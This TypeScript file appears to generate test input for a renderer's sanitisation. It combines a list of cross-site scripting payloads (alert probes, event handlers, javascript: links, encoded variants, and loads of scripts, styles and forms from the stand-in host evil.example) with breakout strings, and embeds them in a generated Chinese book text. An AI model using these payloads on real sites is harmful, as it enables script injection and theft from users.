/** Ways to start a script: each calls `alert` or asks another origin for something, if it is taken for markup. */
const starters = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<body><img src=x onerror=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style onload=alert(1)></style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<img src=https://evil.example/p.png>',
  '<script src=https://evil.example/x.js></script>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input autofocus></form>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href=javascript:alert(1)>点</a>',
  '<a href="https://evil.example/" ping="https://evil.example/p">点</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<script type=module>alert(1)</script>',
  '<script type="text/javascript" async>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '[点](javascript:alert(1))',
  '![点](https://evil.example/p.png)',
  '![点](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[点]: javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '::case{id="01-01-1" onclick="alert(1)"}',
  ':::block{label="<img src=x onerror=alert(1)>"}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cimg src=x onerror=alert(1)%3E',
];
/** Ways for a text to break out of its place: an attribute, an element, a script, a comment, a string. */
const breakouts = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '");',
  '</p></main></body>',
  "\\';",
];

/** Different payloads, the same each time: every starter, and every way out as often as any other. */
export function payloads(count: number): string[] {
  const all = breakouts.flatMap((breakout) => starters.map((starter) => breakout + starter));
  const others = all.slice(starters.length);
  const step = others.length / Math.max(1, count - starters.length);
  return [
    ...starters,
    ...Array.from({ length: count - starters.length }, (_, index) => others[Math.floor(index * step)] ?? ''),
  ].slice(0, count);
}

/** A book with a payload in every title, paragraph, label, case, motto and section before the first chapter. */
export function payloadBook(count: number): string {
  const all = payloads(count);
  const chapterOf = (index: number) => `第${index / 10 + 1}章 坐下来谈${all[index] ?? ''}`;
  const contents = all.flatMap((payload, index) => [
    ...(index % 10 === 0 ? [chapterOf(index)] : []),
    `- ${String(index + 1).padStart(3, '0')} 先倒水${index}${payload}`,
  ]);
  const lines = [`前言\n\n序里写着${all[0] ?? ''}。\n\n目录\n`, `${contents.join('\n')}\n`];
  all.forEach((payload, index) => {
    if (index % 10 === 0) lines.push(`${chapterOf(index)}\n\n客来茶当酒${payload}。\n——茶馆旧联${payload}\n`);
    lines.push(
      `先倒水${index}${payload}\n`,
      `茶凉了可以再烧，话凉了就难热${payload}。客人来了先倒水，再坐下来谈第${index}件事。\n`,
    );
    if (index % 5 === 0)
      lines.push(
        `【案例】雨天${index}${payload}\n`,
        `2016年春天，绍兴一家印染厂的老傅第${index}次走进展厅${payload}。他坐了下来，半个月后签了合同。\n`,
        '（案例完）\n',
        `【自查】${payload}\n\n□ 水倒了吗${payload}？\n`,
      );
  });
  return lines.join('\n');
}
